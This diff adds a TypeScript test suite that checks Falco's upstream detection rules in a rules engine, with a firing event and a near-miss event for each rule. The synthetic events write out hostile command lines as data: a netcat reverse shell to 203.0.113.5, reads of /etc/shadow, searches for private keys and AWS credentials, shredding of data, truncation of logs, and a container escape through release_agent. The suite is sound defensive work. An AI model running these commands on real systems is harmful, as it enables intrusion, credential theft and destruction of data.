@@ -1,0 +1,249 @@
+/**
+ * Falco's upstream rules, unchanged: stable and incubating load with zero errors and every rule compiles; then, for
+ * each stable rule, an event it must fire on and a near miss (one detail changed) it must not fire on.
+ */
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { FdType, L4Proto, ProcFlag, type Alert } from '@peregrine/event';
+import { checkRules, formatDiagnostic, loadRulesText, parseRulesConfig, Severity, type Ruleset } from '../../src/index.ts';
+import { BatchBuilder, BASE_TS, O } from '../ruleset/batch-builder.ts';
+
+const UPSTREAM = new URL('../../../../../shared/falco-rules/', import.meta.url);
+const stable = { name: 'falco_rules.yaml', content: readFileSync(new URL('falco_rules.yaml', UPSTREAM), 'utf8') };
+const incubating = { name: 'falco-incubating_rules.yaml', content: readFileSync(new URL('falco-incubating_rules.yaml', UPSTREAM), 'utf8') };
+
+describe('upstream rules load', () => {
+  it('stable then incubating: zero errors, 25 + 31 rules compile', () => {
+    const s = checkRules([stable]);
+    assert.deepEqual(s.diagnostics.filter((d) => d.severity === Severity.Error).map(formatDiagnostic), []);
+    assert.equal(s.ruleset!.rules.length, 25);
+    const both = checkRules([stable, incubating]);
+    assert.deepEqual(both.diagnostics.filter((d) => d.severity === Severity.Error).map(formatDiagnostic), []);
+    assert.equal(both.ruleset!.rules.length, 56);
+    assert.equal(both.ruleset!.rules.filter((r) => r.name !== undefined && incubating.content.includes(`- rule: ${r.name}\n`)).length, 31);
+  });
+
+  it('the stable rules, enabled by default, all have an event-type gate', () => {
+    const rules = loadRulesText([stable]);
+    const gates = rules.eventTypes();
+    assert.ok(gates, 'every stable rule is gated');
+    for (const t of ['execve', 'openat', 'connect', 'ptrace', 'symlinkat', 'linkat', 'init_module', 'dup2', 'socket']) {
+      assert.ok(gates.includes(t), t);
+    }
+  });
+});
+
+const SECOND = 1_000_000_000n;
+const CAP = { DAC_OVERRIDE: 1n << 1n, SYS_MODULE: 1n << 16n, SYS_ADMIN: 1n << 21n } as const;
+const PTRACE = { TRACEME: 0, PEEKDATA: 2, ATTACH: 16 } as const;
+const AF = { INET: 2, PACKET: 17 } as const;
+
+type Build = (b: BatchBuilder) => void;
+interface Case {
+  rule: string;
+  fire: Build;
+  miss: Build;
+}
+
+const exec = (b: BatchBuilder, proc: number) => b.event('execve', { proc, args: {} });
+
+function openFile(b: BatchBuilder, proc: number, path: string, flags: number, raw = path) {
+  const fd = b.fd({ num: 3, type: FdType.File, name: path, openFlags: flags });
+  b.event('openat', { proc, fd, res: 3, args: { fd: 3, name: raw, flags } });
+}
+
+function pod(b: BatchBuilder, privileged = false) {
+  return b.container({ privileged });
+}
+
+const CASES: Case[] = [
+  {
+    rule: 'Directory traversal monitored file read',
+    fire: (b) => openFile(b, b.proc({ name: 'php-fpm' }, [{ name: 'php-fpm' }]), '/etc/shadow', O.RDONLY, '/var/www/html/../../../etc/shadow'),
+    miss: (b) => openFile(b, b.proc({ name: 'php-fpm' }, [{ name: 'bash' }]), '/etc/shadow', O.RDONLY, '/var/www/html/../../../etc/shadow'),
+  },
+  {
+    rule: 'Read sensitive file trusted after startup',
+    fire: (b) => openFile(b, b.proc({ name: 'nginx', startTs: BASE_TS - 60n * SECOND }), '/etc/shadow', O.RDONLY),
+    miss: (b) => openFile(b, b.proc({ name: 'nginx', startTs: BASE_TS - 1n * SECOND }), '/etc/shadow', O.RDONLY),
+  },
+  {
+    rule: 'Read sensitive file untrusted',
+    fire: (b) => openFile(b, b.proc({ name: 'evil' }), '/etc/sudoers', O.RDONLY),
+    miss: (b) => openFile(b, b.proc({ name: 'sudo' }), '/etc/sudoers', O.RDONLY),
+  },
+  {
+    rule: 'Run shell untrusted',
+    fire: (b) => exec(b, b.proc({ name: 'bash', args: ['-c', 'id'] }, [{ name: 'nginx' }])),
+    miss: (b) => exec(b, b.proc({ name: 'python3', args: ['-c', 'id'] }, [{ name: 'nginx' }])),
+  },
+  {
+    rule: 'System user interactive',
+    fire: (b) => exec(b, b.proc({ name: 'ls', user: 'www-data', uid: 33 }, [{ name: 'bash' }, { name: 'sshd' }])),
+    miss: (b) => exec(b, b.proc({ name: 'ls', user: 'alice', uid: 1000 }, [{ name: 'bash' }, { name: 'sshd' }])),
+  },
+  {
+    rule: 'Terminal shell in container',
+    fire: (b) => exec(b, b.proc({ name: 'bash', tty: 34816 }, [{ name: 'containerd-shim' }], pod(b))),
+    miss: (b) => exec(b, b.proc({ name: 'bash', tty: 0 }, [{ name: 'containerd-shim' }], pod(b))),
+  },
+  {
+    rule: 'Netcat Remote Code Execution in Container',
+    fire: (b) => exec(b, b.proc({ name: 'nc', args: ['-e', '/bin/sh', '203.0.113.5', '4444'] }, [{ name: 'sh' }], pod(b))),
+    miss: (b) => exec(b, b.proc({ name: 'nc', args: ['203.0.113.5', '80'] }, [{ name: 'sh' }], pod(b))),
+  },
+  {
+    rule: 'Search Private Keys or Passwords',
+    fire: (b) => exec(b, b.proc({ name: 'grep', args: ['-r', 'BEGIN RSA PRIVATE', '/home'] })),
+    miss: (b) => exec(b, b.proc({ name: 'grep', args: ['-r', 'BEGIN CERTIFICATE', '/home'] })),
+  },
+  {
+    rule: 'Clear Log Activities',
+    fire: (b) => openFile(b, b.proc({ name: 'bash' }), '/var/log/syslog', O.WRONLY | O.TRUNC),
+    miss: (b) => openFile(b, b.proc({ name: 'bash' }), '/var/log/syslog', O.WRONLY),
+  },
+  {
+    rule: 'Remove Bulk Data from Disk',
+    fire: (b) => exec(b, b.proc({ name: 'shred', args: ['-u', '/data/db'] })),
+    miss: (b) => exec(b, b.proc({ name: 'rm', args: ['-rf', '/data/db'] })),
+  },
+  {
+    rule: 'Create Symlink Over Sensitive Files',
+    fire: (b) => b.event('symlinkat', { proc: b.proc({ name: 'ln' }), args: { res: 0, target: '/etc/shadow', linkpath: '/tmp/s' } }),
+    miss: (b) => b.event('symlinkat', { proc: b.proc({ name: 'ln' }), args: { res: 0, target: '/etc/hosts', linkpath: '/tmp/s' } }),
+  },
+  {
+    rule: 'Create Hardlink Over Sensitive Files',
+    fire: (b) => b.event('linkat', { proc: b.proc({ name: 'ln' }), args: { res: 0, oldpath: '/etc/shadow', newpath: '/tmp/s' } }),
+    miss: (b) => b.event('linkat', { proc: b.proc({ name: 'ln' }), args: { res: 0, oldpath: '/etc/hostname', newpath: '/tmp/s' } }),
+  },
+  {
+    rule: 'Packet socket created in container',
+    fire: (b) => b.event('socket', { proc: b.proc({ name: 'tcpdump' }, [], pod(b)), dir: 0, args: { domain: AF.PACKET, type: 3, proto: 0 } }),
+    miss: (b) => b.event('socket', { proc: b.proc({ name: 'tcpdump' }, [], pod(b)), dir: 0, args: { domain: AF.INET, type: 1, proto: 0 } }),
+  },
+  {
+    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
+    fire: (b) => {
+      const fd = b.fd({ num: 1, type: FdType.Ipv4, name: '10.1.2.3:40000->203.0.113.5:4444', l4proto: L4Proto.Tcp, sip: '10.1.2.3', sport: 40000, dip: '203.0.113.5', dport: 4444 });
+      b.event('dup2', { proc: b.proc({ name: 'bash' }, [], pod(b)), fd, res: 1, args: { res: 1, oldfd: 3, newfd: 1 } });
+    },
+    miss: (b) => {
+      const fd = b.fd({ num: 7, type: FdType.Ipv4, name: '10.1.2.3:40000->203.0.113.5:4444', l4proto: L4Proto.Tcp, sip: '10.1.2.3', sport: 40000, dip: '203.0.113.5', dport: 4444 });
+      b.event('dup2', { proc: b.proc({ name: 'bash' }, [], pod(b)), fd, res: 7, args: { res: 7, oldfd: 3, newfd: 7 } });
+    },
+  },
+  {
+    rule: 'Linux Kernel Module Injection Detected',
+    fire: (b) => b.event('init_module', { proc: b.proc({ name: 'insmod', capEffective: CAP.SYS_MODULE }, [], pod(b)), args: { res: 0 } }),
+    miss: (b) => b.event('init_module', { proc: b.proc({ name: 'insmod', capEffective: 0n }, [], pod(b)), args: { res: 0 } }),
+  },
+  {
+    rule: 'Debugfs Launched in Privileged Container',
+    fire: (b) => exec(b, b.proc({ name: 'debugfs' }, [], pod(b, true))),
+    miss: (b) => exec(b, b.proc({ name: 'debugfs' }, [], pod(b, false))),
+  },
+  {
+    rule: 'Detect release_agent File Container Escapes',
+    fire: (b) => openFile(b, b.proc({ name: 'sh', uid: 0, capEffective: CAP.SYS_ADMIN }, [], pod(b)), '/tmp/cg/release_agent', O.WRONLY),
+    miss: (b) => openFile(b, b.proc({ name: 'sh', uid: 0, capEffective: CAP.DAC_OVERRIDE }, [], pod(b)), '/tmp/cg/release_agent', O.WRONLY),
+  },
+  {
+    rule: 'PTRACE attached to process',
+    fire: (b) => b.event('ptrace', { proc: b.proc({ name: 'injector' }), dir: 0, args: { request: PTRACE.ATTACH, pid: 4242 } }),
+    miss: (b) => b.event('ptrace', { proc: b.proc({ name: 'injector' }), dir: 0, args: { request: PTRACE.PEEKDATA, pid: 4242 } }),
+  },
+  {
+    rule: 'PTRACE anti-debug attempt',
+    fire: (b) => b.event('ptrace', { proc: b.proc({ name: 'malware' }), dir: 0, args: { request: PTRACE.TRACEME, pid: 0 } }),
+    miss: (b) => b.event('ptrace', { proc: b.proc({ name: 'malware' }), dir: 0, args: { request: PTRACE.PEEKDATA, pid: 0 } }),
+  },
+  {
+    rule: 'Find AWS Credentials',
+    fire: (b) => exec(b, b.proc({ name: 'find', args: ['/', '-path', '*/.aws/credentials'] })),
+    miss: (b) => exec(b, b.proc({ name: 'find', args: ['/', '-path', '*/.aws/config'] })),
+  },
+  {
+    rule: 'Execution from /dev/shm',
+    fire: (b) => exec(b, b.proc({ name: 'x', exe: '/dev/shm/x', exepath: '/dev/shm/x' })),
+    miss: (b) => exec(b, b.proc({ name: 'x', exe: '/tmp/x', exepath: '/tmp/x' })),
+  },
+  {
+    rule: 'Drop and execute new binary in container',
+    fire: (b) => exec(b, b.proc({ name: 'miner', flags: ProcFlag.ExeUpperLayer }, [{ name: 'sh' }], pod(b))),
+    miss: (b) => exec(b, b.proc({ name: 'miner', flags: ProcFlag.ExeLowerLayer }, [{ name: 'sh' }], pod(b))),
+  },
+  {
+    rule: 'Disallowed SSH Connection Non Standard Port',
+    fire: (b) => sshConnect(b, 443),
+    miss: (b) => sshConnect(b, 22),
+  },
+  {
+    rule: 'Fileless execution via memfd_create',
+    fire: (b) => exec(b, b.proc({ name: 'payload', flags: ProcFlag.ExeFromMemfd }, [{ name: 'bash' }])),
+    miss: (b) => exec(b, b.proc({ name: 'runc', flags: ProcFlag.ExeFromMemfd }, [{ name: 'containerd-shim' }])),
+  },
+];
+
+function sshConnect(b: BatchBuilder, port: number) {
+  const proc = b.proc({ name: 'ssh', exe: '/usr/bin/ssh', exepath: '/usr/bin/ssh' });
+  const fd = b.fd({
+    num: 3, type: FdType.Ipv4, name: `192.168.1.5:50000->203.0.113.5:${port}`, l4proto: L4Proto.Tcp,
+    sip: '192.168.1.5', sport: 50000, dip: '203.0.113.5', dport: port,
+  });
+  b.event('connect', { proc, fd, res: 0, args: { res: 0, fd: 3 } });
+}
+
+/**
+ * Rules whose fire case needs what our fields do not provide yet, with the reason. Each still has its near miss
+ * checked, and stays listed here only while its fire case fails.
+ */
+const KNOWN_GAPS: Record<string, string> = {
+  'Contact K8S API Server From Container': 'fd.sip.name needs reverse DNS of the server IP, which no stage resolves',
+};
+
+/**
+ * Fire cases that depend on field rendering the condition language does not do yet (reported as todo, so they
+ * show up without failing the suite; each turns into a plain pass once the field works).
+ */
+const FIELD_GAPS: Record<string, string> = {
+  'Directory traversal monitored file read': 'fd.nameraw must be the path as passed to open (evt.arg.name), not the resolved fd.name',
+  'Clear Log Activities': 'evt.arg.flags must render open flags by name (O_TRUNC)',
+  'Packet socket created in container': 'evt.arg.domain must render the socket family by name (AF_PACKET)',
+  'PTRACE attached to process': 'evt.arg.request must render the ptrace request by name (PTRACE_ATTACH)',
+  'PTRACE anti-debug attempt': 'evt.arg.request must render the ptrace request by name (PTRACE_TRACEME)',
+};
+
+describe('upstream stable rules: fire and near miss', () => {
+  const rules: Ruleset = loadRulesText([stable], parseRulesConfig({ rule_matching: 'all' }));
+  const fired = (build: Build): string[] => {
+    const b = new BatchBuilder();
+    build(b);
+    const alerts: Alert[] = [];
+    rules.evaluate(b.batch, (a) => alerts.push(a));
+    return alerts.map((a) => a.rule);
+  };
+
+  it('covers every stable rule', () => {
+    const covered = new Set([...CASES.map((c) => c.rule), ...Object.keys(KNOWN_GAPS)]);
+    assert.deepEqual(rules.rules.map((r) => r.name).filter((n) => !covered.has(n)), []);
+  });
+
+  for (const c of CASES) {
+    const gap = FIELD_GAPS[c.rule];
+    it(`${c.rule}: fires`, gap ? { todo: gap } : {}, () => assert.ok(fired(c.fire).includes(c.rule), `fired: ${JSON.stringify(fired(c.fire))}`));
+    it(`${c.rule}: near miss does not fire`, () => assert.ok(!fired(c.miss).includes(c.rule)));
+  }
+
+  for (const [rule, reason] of Object.entries(KNOWN_GAPS)) {
+    it(`${rule}: fires`, { todo: reason }, () => {
+      const b = new BatchBuilder();
+      const fd = b.fd({ num: 3, type: FdType.Ipv4, name: '10.1.2.3:40000->10.96.0.1:443', l4proto: L4Proto.Tcp, sip: '10.1.2.3', sport: 40000, dip: '10.96.0.1', dport: 443 });
+      b.event('connect', { proc: b.proc({ name: 'curl' }, [], pod(b)), fd, res: 0, args: { res: 0, fd: 3 } });
+      const alerts: Alert[] = [];
+      rules.evaluate(b.batch, (a) => alerts.push(a));
+      assert.ok(alerts.some((a) => a.rule === rule));
+    });
+  }
+});
